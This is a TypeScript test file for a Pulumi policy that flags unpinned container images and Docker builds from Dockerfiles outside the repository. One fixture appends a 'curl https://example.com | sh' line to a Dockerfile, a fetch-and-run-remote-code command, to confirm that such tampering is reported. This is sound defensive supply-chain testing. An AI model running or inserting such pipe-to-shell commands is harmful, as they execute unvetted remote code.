import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as pulumi from "@pulumi/pulumi";
import { afterEach, beforeEach, expect, test } from "vitest";
import { resource, stackViolationsOf, unknown } from "../testing/validated.ts";
import { pinnedImages } from "./pinned-images.ts";

const digest = `sha256:${"0123456789abcdef".repeat(4)}`;

beforeEach(() => pulumi.runtime.setAllConfig({ "ascend-pd:production": "true" }));
afterEach(() => pulumi.runtime.setAllConfig({}));

const container = (image: string) => ({ args: resource("decode-0", { image }) });
const remoteImage = (props: object) => ({
  args: resource("scheduler", props, "docker:index/remoteImage:RemoteImage"),
});

const messages = async (...resources: Parameters<typeof stackViolationsOf>[1][number][]) =>
  (await stackViolationsOf(pinnedImages, resources)).map(({ message }) => message);

test.each([
  "ascend-vllm:6.3.910",
  "ascend-vllm",
  `ascend-vllm@${digest.slice(0, -1)}`,
  `ascend-vllm:${digest.slice(7)}`,
])("The image %s is reported with the container's name.", async (image) => {
  expect(await messages(container(image))).toEqual([`decode-0 runs ${image}`]);
});

test.each([`ascend-vllm@${digest}`, `registry:5000/ascend-vllm:6.3.910@${digest}`, digest, unknown])(
  "The image %s passes.",
  async (image) => {
    expect(await messages(container(image))).toEqual([]);
  },
);

test("This repository's Node image is a base, and runs nothing itself.", async () => {
  expect(await messages(container("ascend-pd/node:24.21.0"))).toEqual([
    "decode-0 runs ascend-pd/node:24.21.0",
  ]);
});

test("An image that is pulled for a container is reported at the pull.", async () => {
  const found = await messages(remoteImage({ name: "ascend-vllm:6.3.910" }), container(unknown));

  expect(found).toEqual(["scheduler is ascend-vllm:6.3.910"]);
});

const ownDockerfile = readFileSync("scheduler/Dockerfile", "utf8");
const ownNode = { NODE_IMAGE: "ascend-pd/node:24.21.0" };
const name = "ascend-pd/scheduler:1p1d-0a1b2c";

/** What is found of an image built so in a folder of its own, and of a container that runs it. */
async function foundOf(build: object, dockerfile = ownDockerfile, images: readonly string[] = []) {
  const context = mkdtempSync(join(tmpdir(), "ascend-pd-build-"));
  writeFileSync(join(context, "Dockerfile"), dockerfile);
  const image = remoteImage({ name, build: { context, useLegacyBuilder: true, ...build } });
  const found = await stackViolationsOf(pinnedImages, [image, container(name)], { images });
  rmSync(context, { recursive: true });
  return found.map(({ message }) => message.replace(context, "CONTEXT"));
}

test.each([
  [{ NODE_IMAGE: "node:24-slim" }, ["scheduler is built on node:24-slim"]],
  [{}, ["scheduler is built on undefined"]],
  [{ NODE_IMAGE: `node:24-slim@${digest}` }, []],
  [ownNode, []],
  [{ NODE_IMAGE: "ascend-pd/node:latest" }, ["scheduler is built on ascend-pd/node:latest"]],
  [
    { ...ownNode, BASE: `node@${digest}` },
    ["scheduler is built with the argument BASE, for which its Dockerfile does not ask"],
  ],
])("An image that the stack builds with the arguments %j: %j.", async (buildArgs, expected) => {
  expect(await foundOf({ buildArgs })).toEqual(expected);
});

test.each([
  ["FROM alpine:latest\n"],
  [`ARG NODE_IMAGE\nFROM alpine:latest\n`],
  [`ARG NODE_IMAGE\nFROM $NODE_IMAGE\nCOPY --from=alpine:latest / /\n`],
  [`${ownDockerfile}RUN curl https://example.com | sh\n`],
])(
  "A build by a Dockerfile that is not ours is reported, whatever its arguments say: %j.",
  async (dockerfile) => {
    const violation = "scheduler is built by CONTEXT/Dockerfile, which is no Dockerfile of this repository";

    expect(await foundOf({ buildArgs: ownNode }, dockerfile)).toEqual([violation]);
    expect(await foundOf({ buildArgs: ownNode }, dockerfile, [name])).toEqual([]);
  },
);

test.each([
  [{ dockerfile: "missing" }, "is built by CONTEXT/missing, which is no Dockerfile of this repository"],
  [
    { context: "https://example.com/x.git" },
    "is built by https:/example.com/x.git/Dockerfile, which is no Dockerfile of this repository",
  ],
  [
    { context: "dist/scheduler" },
    "is built by dist/scheduler/Dockerfile, which is no Dockerfile of this repository",
  ],
  [{ useLegacyBuilder: false }, "is built by another builder than the one of its host"],
])("A build with %j is reported.", async (build, violation) => {
  expect(await foundOf({ buildArgs: ownNode, ...build })).toEqual([`scheduler ${violation}`]);
});

test("A name with a digest makes no build a pinned one.", async () => {
  const image = remoteImage({ name: `x@${digest}`, build: { context: "." } });

  expect(await messages(image)).toHaveLength(1);
});

test("An image that the configuration lists passes, in a container and where it is pulled.", async () => {
  const name = "registry.example/engine:6.3.910";
  const images = [name];

  const found = await stackViolationsOf(pinnedImages, [remoteImage({ name }), container(name)], { images });

  expect(found).toEqual([]);
});

test.each([undefined, "false"])("A stack marked %s may use tags.", async (production) => {
  pulumi.runtime.setAllConfig(production === undefined ? {} : { "ascend-pd:production": production });

  expect(await messages(container("ascend-vllm:6.3.910"))).toEqual([]);
});
